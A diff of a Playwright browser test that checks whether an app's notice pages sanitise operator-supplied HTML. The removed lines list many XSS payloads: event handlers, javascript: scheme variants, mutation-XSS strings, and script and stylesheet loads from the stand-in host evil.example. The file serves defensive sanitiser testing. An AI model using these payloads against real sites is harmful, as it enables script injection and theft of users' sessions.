@@ -1,87 +1,17 @@
 // Proves in a real browser that nothing of an operator's HTML runs or stays beyond text, links and pictures, whatever the server
-// let through: many payloads in each place that draws HTML.
-import type { Page } from '@playwright/test';
+// let through: many payloads in each place of the app that draws HTML. With E2E_PAYLOADS=all every payload in each of them.
+import type { BrowserContext, Page } from '@playwright/test';
 import { logIn } from '../pages/login-page.ts';
 import { customers, expect, leaveOut, test } from '../test.ts';
+import { markup, odd } from '../xss/markup.ts';
+import { publicPayloads } from '../xss/payloads.ts';
 
-const run = 'top.hasRun=1';
-const handlers = [
-  'onerror',
-  'onload',
-  'onclick',
-  'onfocus',
-  'onmouseover',
-  'onanimationstart',
-  'ontoggle',
-  'onbegin',
-  'onpointerenter',
-];
-const hosts = [
-  'img src=x',
-  'svg',
-  'body',
-  'details open',
-  'input autofocus',
-  'video src=x',
-  'iframe',
-  'select autofocus',
-  'audio src=x',
-  'object',
-  'marquee',
-  'math',
-  'p',
-];
-const schemes = [
-  'javascript:',
-  'JaVaScRiPt:',
-  'java\tscript:',
-  '&#106;avascript:',
-  ' javascript:',
-  'data:text/html,',
-  'vbscript:',
-];
-const carriers = [
-  'a href',
-  'form action',
-  'iframe src',
-  'object data',
-  'embed src',
-  'base href',
-  'link rel=import href',
-  'area href',
-];
-const odd = [
-  `<script>${run}</script>`,
-  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
-  `<svg><script>${run}</script></svg>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
-  `<template><img src=x onerror=${run}></template>`,
-  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
-  `<a href="https://evil.example" target=_top onclick=${run}>x</a>`,
-  `<svg><animate attributeName=href values="javascript:${run}" /><a><text>x</text></a></svg>`,
-  `<style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style>`,
-  `<img src="x" srcset="//evil.example/a.png 1x" style="background:url(//evil.example)">`,
-  `<p id=root class=stage name=body style="position:fixed;inset:0">x</p>`,
-  `<input name=attributes><form id=parentNode><input name=nodeName></form>`,
-  `<xmp><img src=x onerror=${run}></xmp>`,
-  `<!--><img src=x onerror=${run}>-->`,
-  `<a href="//evil.example">x</a><a href="/\\evil.example">x</a>`,
-];
-const everything = [
-  ...odd,
-  ...hosts.flatMap((host) => handlers.map((handler) => `<${host} ${handler}=${run}>`)),
-  ...hosts.flatMap((host) => handlers.map((handler) => `<${host}/${handler.toUpperCase()}="${run}"//>`)),
-  ...carriers.flatMap((carrier) =>
-    schemes.map((scheme) => `<${carrier}="${scheme}${run}">x</${carrier.split(' ')[0]}>`),
-  ),
-  ...hosts.flatMap((host) => odd.map((inner) => `<${host}>${inner}</${host.split(' ')[0]}>`)),
-]; /** The odd ones and a share of the rest; all of them with `E2E_PAYLOADS=all`. */
-const share = process.env.E2E_PAYLOADS === 'all' ? 1 : 8;
-const payloads = everything.filter((_, i) => i < odd.length || i % share === 0);
+const isWhole = process.env.E2E_PAYLOADS === 'all';
+const others = [...markup.filter((payload) => !odd.includes(payload)), ...publicPayloads];
+/** The odd ones and a share of the rest; all of them with `E2E_PAYLOADS=all`. */
+const payloads = [...odd, ...others.filter((_, i) => isWhole || i % 16 === 0)];
+/** A walk through more would take longer than a test may, on a busy machine. */
+const atOnce = 60;
 
 const tags =
   'H1 H2 H3 H4 P BR HR PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD B STRONG I EM U S SPAN CODE A IMG'.split(' ');
@@ -91,6 +21,9 @@ const attributes = ['href', 'src', 'alt', 'colspan', 'rowspan', 'loading', 'refe
 async function watch(page: Page): Promise<void> {
   await page.addInitScript(
     ([tags, attributes]) => {
+      for (const name of ['alert', 'confirm', 'prompt', 'print']) {
+        Object.defineProperty(window, name, { value: () => Object.assign(window, { hasRun: 1 }) });
+      }
       Object.assign(window, {
         strangersIn(ground: Element | null): string[] {
           if (ground === null) return ['nothing is drawn'];
@@ -109,7 +42,7 @@ async function watch(page: Page): Promise<void> {
 }
 
 /** Walks through the details from one to the next, as the app's own links do, and gathers what is found. */
-function strangersOfAll(count: number): Promise<string[]> {
+function strangersOfDetails(count: number): Promise<string[]> {
   const { strangersIn } = window as unknown as { strangersIn: (ground: Element | null) => string[] };
   const drawn = async (title: string) => {
     for (;;) {
@@ -129,45 +62,90 @@ function strangersOfAll(count: number): Promise<string[]> {
   })();
 }
 
-test.use({ notices: true });
+/** Confirms one forced notice after the other, and gathers what is found in their texts. */
+function strangersOfNotices(count: number): Promise<string[]> {
+  const { strangersIn } = window as unknown as { strangersIn: (ground: Element | null) => string[] };
+  const dialogOf = async (isIt: (dialog: Element | null) => boolean) => {
+    for (;;) {
+      const dialog = document.querySelector('[role=dialog]');
+      if (isIt(dialog)) return dialog;
+      await new Promise((resolve) => requestAnimationFrame(resolve));
+    }
+  };
+  return (async () => {
+    const found: string[] = [];
+    for (let at = 1; at <= count; at++) {
+      const dialog = await dialogOf((it) => it?.textContent?.includes(`公告 ${at} / ${count}`) ?? false);
+      const text = dialog?.querySelector(':scope [tabindex="-1"] > div') ?? null;
+      found.push(...strangersIn(text).map((what) => `${at - 1}: ${what}`));
+      dialog?.querySelector<HTMLElement>('[role=checkbox]')?.click();
+      await dialogOf((it) => it?.querySelector('[role=checkbox][aria-checked=true]') !== null);
+      dialog?.querySelector<HTMLElement>('button:not([role=checkbox])')?.click();
+    }
+    await dialogOf((it) => it === null);
+    return found;
+  })();
+}
 
-test(`${payloads.length} payloads in a detail page, the odd ones in a forced notice: none runs, none stays`, async ({
-  page,
-  context,
-  complaints,
-}) => {
-  test.setTimeout(share === 1 ? 900_000 : 180_000);
-  await leaveOut(context, 'popups');
-  let forced = '';
+/** Answers each payload as a detail's content and as a forced notice's; what is asked of other hosts is written down. */
+async function publish(context: BrowserContext, some: readonly string[]): Promise<{ asked: string[] }> {
   const answer = (data: unknown) => ({ json: { code: 200, message: 'ok', data } });
+  const asked: string[] = [];
+  const isElsewhere = ({ protocol, origin }: URL) =>
+    protocol.startsWith('http') && origin !== new URL(process.env.E2E_BASE_URL ?? '').origin;
+  await context.route(isElsewhere, async (route) => {
+    const request = route.request();
+    if (request.resourceType() !== 'image') asked.push(`${request.resourceType()} ${request.url()}`);
+    await route.abort();
+  });
   await context.route('**/api/notice/detail*', (route) => {
     const id = new URL(route.request().url()).searchParams.get('id') ?? '';
-    const content = payloads[Number(id)] ?? '';
+    const content = some[Number(id)] ?? '';
     return route.fulfill(answer({ id, title: `No ${id}`, content, publishTime: '2026-11-19T02:00:00.000Z' }));
   });
+  const unconfirmed = new Map(some.map((content, i) => [`${i}`, content]));
   await context.route('**/api/force_notify/list*', (route) =>
-    route.fulfill(answer(forced === '' ? [] : [{ id: '1', img: null, content: forced }])),
+    route.fulfill(answer([...unconfirmed].map(([id, content]) => ({ id, img: null, content })))),
   );
-  await watch(page);
-  await logIn(page, customers.main);
-  await page.goto('/detail?id=0&type=Notice');
-  await expect(page.getByRole('heading', { name: 'No 0', level: 2 })).toBeVisible();
-  expect(await page.evaluate(strangersOfAll, payloads.length)).toEqual([]);
+  await context.route('**/api/force_notify/confirm*', (route) => {
+    unconfirmed.delete((route.request().postDataJSON() as { notifyId: string }).notifyId);
+    return route.fulfill(answer(null));
+  });
+  return { asked };
+}
 
-  for (const payload of odd) {
-    forced = payload;
+test.use({ notices: true });
+
+// The policy also speaks up for the scratch document that is cleaned, where nothing can run.
+const ofTheScratch =
+  /inline (?:event handler|style) violates|base URI|^policy: (?:script-src-attr|style-src-(?:elem|attr)) inline|^policy: base-uri /;
+/** Pictures over https may stand in a text; here none of their hosts is reached. */
+const ofPictures = /^console: Failed to load resource: net::ERR_FAILED/;
+
+for (let from = 0; from < payloads.length; from += atOnce) {
+  const some = payloads.slice(from, from + atOnce);
+  const which = `${from + 1} to ${from + some.length} of ${payloads.length}`;
+  test(`payloads ${which} in a detail page and in a forced notice: none runs, none stays`, async ({
+    page,
+    context,
+    complaints,
+  }) => {
+    test.setTimeout(300_000);
+    await page.emulateMedia({ reducedMotion: 'reduce' });
+    await leaveOut(context, 'popups');
+    await context.route('**/api/force_notify/list*', (route) => route.fulfill({ json: { code: 200, data: [] } }));
+    await watch(page);
+    await logIn(page, customers.main);
+    const { asked } = await publish(context, some);
+    await page.goto('/detail?id=0&type=Notice');
+    await expect(page.getByRole('heading', { name: 'No 0', level: 2 })).toBeVisible();
+    expect(await page.evaluate(strangersOfDetails, some.length)).toEqual([]);
+
     await page.goto('/index');
     await expect(page.getByRole('dialog')).toBeVisible();
-    const found = await page.evaluate(() =>
-      (window as unknown as { strangersIn: (ground: Element | null) => string[] }).strangersIn(
-        document.querySelector('[role=dialog] [tabindex="-1"] > div'),
-      ),
-    );
-    expect(found, payload).toEqual([]);
-  }
-  // The policy also speaks up for the scratch document that is cleaned, where nothing can run.
-  const ofTheScratch =
-    /inline (?:event handler|style) violates|base URI|^policy: (?:script-src-attr|style-src-(?:elem|attr)) inline|^policy: base-uri /;
-  const others = complaints.splice(0).filter((text) => !ofTheScratch.test(text));
-  expect(others).toEqual([]);
-});
+    expect(await page.evaluate(strangersOfNotices, some.length)).toEqual([]);
+
+    expect(asked).toEqual([]);
+    expect(complaints.splice(0).filter((text) => !ofTheScratch.test(text) && !ofPictures.test(text))).toEqual([]);
+  });
+}
